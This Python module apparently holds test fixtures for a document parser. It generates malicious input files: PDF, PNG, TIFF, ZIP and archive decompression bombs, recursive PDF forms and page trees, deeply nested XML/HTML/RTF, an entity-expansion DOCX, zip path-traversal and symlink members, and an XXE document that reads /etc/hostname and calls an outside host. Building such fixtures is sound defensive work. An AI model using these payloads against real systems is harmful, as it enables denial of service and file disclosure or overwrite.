"""Small files that become large, deep or endless when they are read; each is a function without arguments."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

_EPOCH = (1980, 1, 1, 0, 0, 0)
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
MEGABYTE = 1_000_000


def zipped(members: dict[str, bytes]) -> bytes:
    """A ZIP archive; the same members give the same bytes."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name, _EPOCH), data, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def word(body: str, prologue: str = "") -> bytes:
    """A Word document with that body."""
    xml = f'<?xml version="1.0"?>{prologue}<w:document {_W}><w:body>{body}</w:body></w:document>'
    return zipped({"[Content_Types].xml": _TYPES, "word/document.xml": xml.encode()})


def pdf(objects: list[bytes]) -> bytes:
    """A PDF whose first object is the catalogue; without a table of offsets, which readers rebuild."""
    body = b"".join(b"%d 0 obj\n%s\nendobj\n" % (number, inner) for number, inner in enumerate(objects, 1))
    return b"%PDF-1.7\n" + body + b"trailer\n<</Root 1 0 R/Size %d>>\nstartxref\n0\n%%%%EOF\n" % (len(objects) + 1)


def stream(data: bytes, entries: bytes = b"") -> bytes:
    """A PDF stream as it is."""
    return b"<<%s/Length %d>>\nstream\n%s\nendstream" % (entries, len(data), data)


def page(content: bytes, resources: bytes, *more: bytes) -> bytes:
    """A PDF of one page: its content is object 4, further objects begin at 5."""
    return pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<<%s>>>>" % resources,
            content,
            *more,
        ]
    )


def zeros(length: int, rounds: int = 1) -> bytes:
    """Zero bytes, compressed that many times over."""
    packer = zlib.compressobj(9)
    chunk = bytes(MEGABYTE)
    packed = b"".join(packer.compress(chunk) for _ in range(length // MEGABYTE)) + packer.flush()
    for _ in range(rounds - 1):
        packed = zlib.compress(packed, 9)
    return packed


def stacked_flate() -> bytes:
    """A page content of 1 GB, packed three times."""
    return page(stream(zeros(1_000 * MEGABYTE, 3), b"/Filter[/FlateDecode/FlateDecode/FlateDecode]"), b"")


def flate_of_text() -> bytes:
    """A page content of 60 MB that shows one letter again and again."""
    shown = zlib.compress(b"BT /F1 9 Tf " + b"(a) Tj " * (60 * MEGABYTE // 7) + b"ET", 9)
    font = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
    return page(stream(shown, b"/Filter/FlateDecode"), b"/Font<</F1 5 0 R>>", font)


def recursive_form() -> bytes:
    """A form that draws itself."""
    form = stream(b"/X Do", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 5 0 R>>>>")
    return page(stream(b"/X Do"), b"/XObject<</X 5 0 R>>", form)


def doubling_forms() -> bytes:
    """Forty forms, each of which draws the next one twice."""
    forms = [
        stream(
            b"/X Do /X Do",
            b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X %d 0 R>>>>" % (number + 1),
        )
        for number in range(5, 45)
    ]
    last = stream(b"0 0 9 9 re f", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]")
    return page(stream(b"/X Do"), b"/XObject<</X 5 0 R>>", *forms, last)


def huge_picture_in_pdf() -> bytes:
    """A picture of 60,000 by 60,000 pixels on a page."""
    entries = b"/Type/XObject/Subtype/Image/Width 60000/Height 60000/ColorSpace/DeviceGray/BitsPerComponent 8"
    picture = stream(zeros(200 * MEGABYTE), entries + b"/Filter/FlateDecode")
    return page(stream(b"500 0 0 500 0 0 cm /X Do"), b"/XObject<</X 5 0 R>>", picture)


def huge_page() -> bytes:
    """A page of 14 million points a side."""
    return page(stream(b"0 0 9 9 re f"), b"").replace(b"[0 0 595 842]", b"[0 0 14000000 14000000]")


def page_tree_loop() -> bytes:
    """A page tree that contains itself."""
    return pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 1000000>>"])


def hundred_thousand_pages() -> bytes:
    """One page, named a hundred thousand times."""
    kids = b"3 0 R " * 100_000
    leaf = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>"
    return pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[%s]/Count 100000>>" % kids, leaf])


def deep_pdf_array() -> bytes:
    """An array in an array, 200,000 times."""
    return page(stream(b""), b"/ExtGState " + b"[" * 200_000 + b"]" * 200_000)


def many_rulings() -> bytes:
    """A page ruled with a million lines."""
    lines = zlib.compress(b"".join(b"%d 0 m %d 842 l S " % (n % 595, n % 595) for n in range(MEGABYTE)), 9)
    return page(stream(lines, b"/Filter/FlateDecode"), b"")


def png(width: int, height: int, data: bytes) -> bytes:
    """A grey PNG that says it is so large."""

    def chunk(name: bytes, inner: bytes) -> bytes:
        return struct.pack(">I", len(inner)) + name + inner + struct.pack(">I", zlib.crc32(name + inner))

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def huge_png() -> bytes:
    """60,000 by 60,000 pixels, the first of them there."""
    return png(60_000, 60_000, zeros(300 * MEGABYTE))


def tall_png() -> bytes:
    """One pixel wide and two billion high."""
    return png(1, 2_000_000_000, zeros(10 * MEGABYTE))


def huge_tiff() -> bytes:
    """60,000 by 60,000 pixels in one strip of a few bytes, and a list of pages that never ends."""
    tags = ((256, 60_000), (257, 60_000), (258, 8), (259, 1), (262, 1), (273, 8), (277, 1), (278, 60_000), (279, 9))
    entries = b"".join(struct.pack("<HHII", tag, 4, 1, value) for tag, value in tags)
    return b"II*\0" + struct.pack("<IH", 8, len(tags)) + entries + struct.pack("<I", 8)


def thousand_to_one() -> bytes:
    """A text of 400 MB in an archive a thousand times smaller."""
    out = io.BytesIO()
    entry = zipfile.ZipInfo("a.txt", _EPOCH)
    entry.compress_type = zipfile.ZIP_DEFLATED
    with zipfile.ZipFile(out, "w") as archive, archive.open(entry, "w", force_zip64=True) as member:
        for _ in range(400):
            member.write(b"a" * MEGABYTE)
    return out.getvalue()


def archives_in_archives() -> bytes:
    """Sixteen archives, each with sixteen copies of the next, five levels deep."""
    inner = b"x" * MEGABYTE
    for level in range(5):
        inner = zipped({f"{level}-{number}.zip": inner for number in range(16)})
    return inner


def hundred_thousand_members() -> bytes:
    """An archive of a hundred thousand empty files."""
    return zipped({f"{number}.txt": b"" for number in range(100_000)})


def ways_out() -> bytes:
    """Members whose names lead out of the folder, and a link to the root."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        names = ("../../../../opt/out.txt", "/opt/out.txt", "C:\\out.txt", "a/../../../b.txt", "\0.txt", "x" * 60_000)
        for name in names:
            archive.writestr(zipfile.ZipInfo(name, _EPOCH), b"out")
        link = zipfile.ZipInfo("link", _EPOCH)
        link.external_attr = 0o120777 << 16
        archive.writestr(link, b"/")
        archive.writestr(zipfile.ZipInfo("link/etc/out.txt", _EPOCH), b"out")
    return out.getvalue()


def deep_xml() -> bytes:
    """Paragraph properties within each other, 300,000 deep."""
    return word("<w:sdt><w:sdtContent>" * 300_000 + "</w:sdtContent></w:sdt>" * 300_000)


def nested_tables() -> bytes:
    """Tables within tables, 60 deep."""
    return word("<w:tbl><w:tr><w:tc>" * 60 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 60)


def ten_million_cells() -> bytes:
    """A table of 20,000 rows, each of five cells that span a hundred columns."""
    cell = '<w:tc><w:tcPr><w:gridSpan w:val="100"/></w:tcPr><w:p/></w:tc>'
    return word(f"<w:tbl>{f'<w:tr>{cell * 5}</w:tr>' * 20_000}</w:tbl>")


def entities() -> bytes:
    """A document type whose entities double a hundred times."""
    defined = "".join(f'<!ENTITY a{n + 1} "&a{n};&a{n};">' for n in range(100))
    return word("<w:p><w:r><w:t>&a100;</w:t></w:r></w:p>", f'<!DOCTYPE d [<!ENTITY a0 "aa">{defined}]>')


def foreign_entity() -> bytes:
    """A document type that asks for a file of this machine and one of another."""
    asked = '<!DOCTYPE d SYSTEM "http://192.0.2.1/d.dtd" [<!ENTITY f SYSTEM "file:///etc/hostname">]>'
    return word("<w:p><w:r><w:t>&f;</w:t></w:r></w:p>", asked)


def long_line() -> bytes:
    """A text of one line: ten million dots, digits and letters in turn."""
    return "Số: 1.,-/BC; ngày ".encode() * 600_000


def many_lines() -> bytes:
    """Half a million lines that each begin like a heading."""
    return "".join(f"{n % 9}. Đề nghị ngày {n % 31}\n" for n in range(500_000)).encode()


def marks_on_marks() -> bytes:
    """A letter with a million marks above it."""
    return ("Ủy ban a" + "\u0301" * MEGABYTE).encode()


def wide_text_table() -> bytes:
    """A text table of 3,000 columns and 400 rows."""
    return (("|" + "a|" * 3_000 + "\n") + ("|" + "-|" * 3_000 + "\n") + ("|" + "1|" * 3_000 + "\n") * 400).encode()


def mails_in_mails() -> bytes:
    """A mail that holds a mail, 3,000 times."""
    return b"From: a@example.com\nMIME-Version: 1.0\nContent-Type: message/rfc822\n\n" * 3_000 + b"\n\nend"


def many_mail_parts() -> bytes:
    """A mail of 50,000 parts."""
    head = b'From: a@example.com\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="b"\n\n'
    return head + b"--b\nContent-Disposition: attachment; filename=a.txt\n\nx\n" * 50_000 + b"--b--\n"


def deep_html() -> bytes:
    """Tables in tables, 50,000 deep."""
    return b"<!DOCTYPE html><html><body>" + b"<table><tr><td>" * 50_000


def wide_html() -> bytes:
    """Cells that say they span a million columns and rows."""
    return b"<html><table><tr>" + b'<td colspan="1000000" rowspan="1000000">a</td>' * 500 + b"</tr></table></html>"


def deep_rtf() -> bytes:
    """Groups in groups, 100,000 deep."""
    return b"{\\rtf1" + b"{" * 100_000 + b"a" + b"}" * 100_000 + b"}"


def far_cell() -> bytes:
    """A workbook whose only cell stands in the last row and column."""
    sheet = (
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><dimension ref="A1:XFD1048576"/>'
        '<sheetData><row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
        '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells></worksheet>'
    )
    main = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    book = (
        f'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="{main}">'
        '<sheets><sheet name="a" sheetId="1" r:id="rId1"/></sheets></workbook>'
    )
    package = "http://schemas.openxmlformats.org/package/2006"
    edge = f'<Relationship Id="rId1" Type="{main}/%s" Target="%s"/>'
    edges = f'<Relationships xmlns="{package}/relationships">{edge}</Relationships>'
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    types = (
        f'<Types xmlns="{package}/content-types"><Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/xl/workbook.xml" ContentType="{kind}.sheet.main+xml"/>'
        f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{kind}.worksheet+xml"/></Types>'
    )
    parts = {
        "[Content_Types].xml": types,
        "_rels/.rels": edges % ("officeDocument", "xl/workbook.xml"),
        "xl/workbook.xml": book,
        "xl/_rels/workbook.xml.rels": edges % ("worksheet", "worksheets/sheet1.xml"),
        "xl/worksheets/sheet1.xml": sheet,
    }
    return zipped({name: text.encode() for name, text in parts.items()})


BOMBS: tuple[Callable[[], bytes], ...] = (
    stacked_flate,
    flate_of_text,
    recursive_form,
    doubling_forms,
    huge_picture_in_pdf,
    huge_page,
    page_tree_loop,
    hundred_thousand_pages,
    deep_pdf_array,
    many_rulings,
    huge_png,
    tall_png,
    huge_tiff,
    thousand_to_one,
    archives_in_archives,
    hundred_thousand_members,
    ways_out,
    deep_xml,
    nested_tables,
    ten_million_cells,
    entities,
    foreign_entity,
    long_line,
    many_lines,
    marks_on_marks,
    wide_text_table,
    mails_in_mails,
    many_mail_parts,
    deep_html,
    wide_html,
    deep_rtf,
    far_cell,
)
